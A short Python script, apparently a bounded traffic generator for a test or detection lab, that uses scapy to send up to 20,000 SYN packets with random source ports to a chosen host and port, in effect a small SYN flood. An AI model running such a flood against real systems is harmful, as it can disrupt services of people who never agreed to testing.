"""A LAN host opening TCP connections as fast as it can: COUNT SYNs from random source
ports to HOST:PORT, at layer 3 with scapy (bounded by COUNT and a few seconds).

    syn_flood.py HOST PORT COUNT"""
import random
import sys

from scapy.layers.inet import IP, TCP
from scapy.sendrecv import send

host, port, count = sys.argv[1], int(sys.argv[2]), min(int(sys.argv[3]), 20000)
r = random.Random(5)
send([IP(dst=host) / TCP(sport=r.randrange(1024, 65535), dport=port, flags="S",
                         seq=r.getrandbits(32)) for _ in range(count)], verbose=False)
print(count, flush=True)
